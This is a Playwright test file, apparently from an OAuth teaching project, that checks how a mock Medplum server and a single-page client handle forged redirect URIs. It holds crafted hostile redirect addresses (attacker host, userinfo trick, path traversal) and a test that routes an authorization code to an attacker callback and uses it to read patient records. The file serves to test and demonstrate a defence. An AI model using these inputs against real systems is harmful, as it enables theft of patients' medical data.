import { demoIds } from '@auth-patterns/demo-project';
import type { ControlClient } from '@auth-patterns/mock-medplum/control';
import type { Page } from '@playwright/test';
import { challengeOf } from '#attacker/challenge-of.ts';
import { changeClient } from '#attacker/change-client.ts';
import { readPatients, useStolen } from '#attacker/use-stolen.ts';
import type { App } from '#clinic/clinic-test.ts';
import { expect, test } from '#story/test.ts';

const codeVerifier = 'a-code-verifier-that-the-attacker-has-made-up';

/** Addresses that look like the registered one. The mock's src/oauth2/authorize.test.ts has the others. */
const variants: Readonly<Record<string, (callback: string, attacker: string) => string>> = {
  'another site': (_callback, attacker) => `${attacker}/callback`,
  'the registered one as user name of another site': (callback, attacker) =>
    `${callback.replace('/callback', '')}@${new URL(attacker).host}/callback`,
  'a path that climbs out': (callback) => `${callback}/../sign-in`,
};

test('[B3] spa-client, when a link to Medplum names another redirect URI than its own, is not left', async ({
  page,
  app,
  attacker,
  tenant,
}) => {
  await signInAsMaya(page, app);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));

  for (const [name, vary] of Object.entries(variants)) {
    await test.step(name, async () => {
      const link = silentLink(tenant, vary(`${app.url}/callback`, attacker.url));
      const response = await page.goto(link);

      expect(response?.status()).toBe(400);
      await expect(page.locator('body')).toContainText('Invalid redirect URI');
    });
  }

  expect(asked.filter((url) => !url.startsWith(tenant.baseUrl))).toEqual([]);
  expect(attacker.visits).toEqual([]);
});

// The defence is Medplum's list of redirect URIs. Whoever registers one too many takes it away.
test('[B3] Medplum, when the attacker’s address is registered too, sends a code there unasked', async ({
  page,
  app,
  attacker,
  tenant,
}) => {
  await signInAsMaya(page, app);
  await changeClient(tenant, { redirectUris: [`${app.url}/callback`, `${attacker.url}/callback`] });

  await page.goto(silentLink(tenant, `${attacker.url}/callback`));

  const visit = attacker.visits.find((path) => path.startsWith('/callback?')) ?? '';
  const code = new URL(visit, attacker.url).searchParams.get('code') ?? '';
  const stolen = await useStolen(tenant, { code, code_verifier: codeVerifier });
  expect(await readPatients(tenant, stolen.accessToken)).toContain('Novak');
});

async function signInAsMaya(page: Page, app: App): Promise<void> {
  await app.openSignedIn(page, 'Maya');
  await expect(page.getByRole('table', { name: 'Patients' })).toBeVisible();
}

/** Medplum's cookie says who the user is, so such a link needs one click and no password. */
function silentLink({ baseUrl }: ControlClient, redirectUri: string): string {
  return `${baseUrl}oauth2/authorize?${new URLSearchParams({
    client_id: demoIds.clients.spaClient,
    redirect_uri: redirectUri,
    response_type: 'code',
    scope: 'openid',
    prompt: 'none',
    code_challenge: challengeOf(codeVerifier),
    code_challenge_method: 'S256',
  })}`;
}
